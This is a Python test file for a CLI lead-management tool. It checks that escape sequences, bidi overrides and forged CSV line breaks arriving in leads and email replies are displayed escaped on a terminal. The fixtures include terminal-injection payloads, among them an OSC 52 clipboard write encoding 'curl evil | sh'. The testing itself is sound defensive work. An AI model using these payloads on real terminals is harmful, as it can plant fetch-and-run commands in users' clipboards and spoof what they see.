"""Control codes in CSV data and inbound mail are shown, never obeyed, by the terminal.

A CSV row or a reply can carry ESC sequences (retitle the window, clear the screen, write
the clipboard with OSC 52), C1 controls and bidi overrides; whoever runs `twoway leads
show` must see them written out, while `--json` keeps the exact values.
"""

from __future__ import annotations

import json
import mailbox
import os
import pty
import subprocess
from datetime import datetime
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid
from pathlib import Path

import yaml

from tests.conftest import base_config_data, twoway_cmd

NOW = "2026-12-01T10:00:00+00:00"
ESC_TITLE = "\x1b]0;pwned\x07"
CLEAR = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
CSI_8BIT = "\x9b31m"
RTL_OVERRIDE = "\u202e"
# What may reach a terminal: printable text, tab and newline.
UNSAFE = {chr(c) for c in (*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0))} | {
    chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))
}


def _unsafe_in(text: str) -> list[str]:
    return sorted({f"U+{ord(ch):04X}" for ch in text if ch in UNSAFE})


def _run(cfg: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "TWOWAY_NOW": NOW}
    done = subprocess.run(twoway_cmd(cfg, *args), env=env, capture_output=True, text=True)
    assert done.returncode == 0, (args, done.stderr[-2000:])
    return done


def _on_a_terminal(cfg: Path, *args: str) -> str:
    """What a person at a terminal gets from `twoway ARGS` (stdout and stderr on a pty)."""
    leader, follower = pty.openpty()
    env = {**os.environ, "TWOWAY_NOW": NOW}
    proc = subprocess.Popen(twoway_cmd(cfg, *args), env=env, stdout=follower, stderr=follower)
    os.close(follower)
    out = b""
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # EIO: the program ended and closed the terminal
            break
        if not chunk:
            break
        out += chunk
    os.close(leader)
    assert proc.wait(timeout=60) == 0, out[-2000:]
    return out.decode("utf-8").replace("\r\n", "\n")  # the terminal's own line ends


def _reply(sender: str, subject: str, body: str) -> bytes:
    msg = EmailMessage()
    msg["From"] = f"Eve <{sender}>"
    msg["To"] = "sales@example.com"
    msg["Subject"] = subject
    msg["Date"] = format_datetime(datetime.fromisoformat(NOW))
    msg["Message-ID"] = make_msgid(domain="corp.example.org")
    msg.set_content(body)
    return msg.as_bytes()


def test_it_shows_control_codes_from_csv_and_mail_without_obeying_them(
    database_url: str, tmp_path: Path
) -> None:
    cfg = tmp_path / "twoway.yaml"
    cfg.write_text(yaml.safe_dump(base_config_data(database_url, tmp_path)))
    fields = {
        "email": "eve@corp.example.org",
        "first_name": f"Eve{ESC_TITLE}",
        "last_name": f"Mallory{CLEAR}",
        "company": f"Corp{CSI_8BIT} Inc{RTL_OVERRIDE}gpj.exe",
        "title": "CTO\roverwritten",
        "industry": "software",
        "webinar": f"yes{CLIPBOARD}",
    }
    csv_file = tmp_path / "leads.csv"
    # A quoted CSV field may hold a line break: in a listing it must not print a row.
    spoof = {**{k: "" for k in fields}, "email": "zed@corp.example.org",
             "company": "Zed\nmallory@evil.example          customer       99  ceo@corp"}  # fmt: skip
    csv_file.write_text(
        ",".join(fields)
        + "\n"
        + "".join(",".join(f'"{v}"' for v in row.values()) + "\n" for row in (fields, spoof)),
        encoding="utf-8",
    )
    _run(cfg, "leads", "import", str(csv_file), "--campaign", "welcome")
    eml = _reply(
        fields["email"],
        f"Re: welcome {CLEAR}you have been hacked",
        f"Yes, send pricing{CLIPBOARD} and book a demo next week.{ESC_TITLE}\n",
    )
    mailbox.Maildir(tmp_path / "inbox").add(eml)
    _run(cfg, "run", "--once")

    shown = {
        "leads show": _run(cfg, "leads", "show", fields["email"]).stdout,
        "leads list": _run(cfg, "leads", "list").stdout,
        "leads list --waiting": _run(cfg, "leads", "list", "--waiting").stdout,
        "status": _run(cfg, "status").stdout,
    }
    (tmp_path / "reply.eml").write_bytes(eml)
    shown["inspect"] = _run(cfg, "inspect", str(tmp_path / "reply.eml")).stdout
    shown["leads show on a terminal"] = _on_a_terminal(cfg, "leads", "show", fields["email"])
    for command, out in shown.items():
        assert _unsafe_in(out) == [], (command, out)

    # The person sees where each code was, written out the way JSON writes it.
    show = shown["leads show"]
    assert "Eve\\u001b]0;pwned\\u0007" in show
    assert "Corp\\u009b31m Inc\\u202egpj.exe" in show
    assert "CTO\\u000doverwritten" in show
    assert "Re: welcome \\u001b[2J\\u001b[Hyou have been hacked" in show
    assert "Corp\\u009b31m" in shown["leads list"]
    rows = shown["leads list"].splitlines()
    assert len(rows) == 3 and not any(r.startswith("mallory@") for r in rows), rows
    assert "Zed\\u000amallory@evil.example" in shown["leads list"]
    assert "eve@corp.example.org" in shown["leads list --waiting"]
    assert "\\u001b]52;c;" in shown["inspect"]  # the reply text

    # --json keeps the exact values: JSON's own escaping already holds.
    data = json.loads(_run(cfg, "leads", "show", fields["email"], "--json").stdout)
    assert data["first_name"] == fields["first_name"]
    assert data["company"] == fields["company"]
    assert data["custom"]["webinar"] == fields["webinar"]
    assert data["status"] == "prospect"
    listed = json.loads(_run(cfg, "leads", "list", "--json").stdout)
    assert listed[0]["company"] == fields["company"]
    inspected = json.loads(_run(cfg, "inspect", str(tmp_path / "reply.eml"), "--json").stdout)
    assert CLIPBOARD in inspected["reply_text"]


def test_export_shows_control_codes_on_a_terminal_and_keeps_them_in_a_file(
    sqlite_url: str, tmp_path: Path
) -> None:
    cfg = tmp_path / "twoway.yaml"
    cfg.write_text(yaml.safe_dump(base_config_data(sqlite_url, tmp_path)))
    (tmp_path / "leads.csv").write_text(
        f'email,company\neve@corp.example.org,"Corp{ESC_TITLE}"\n', encoding="utf-8"
    )
    _run(cfg, "leads", "import", str(tmp_path / "leads.csv"))
    on_screen = _on_a_terminal(cfg, "export", "leads")
    assert _unsafe_in(on_screen) == [], on_screen
    assert "Corp\\u001b]0;pwned\\u0007" in on_screen
    piped = _run(cfg, "export", "leads").stdout  # to a file or a CRM import: the data as is
    assert f"Corp{ESC_TITLE}" in piped
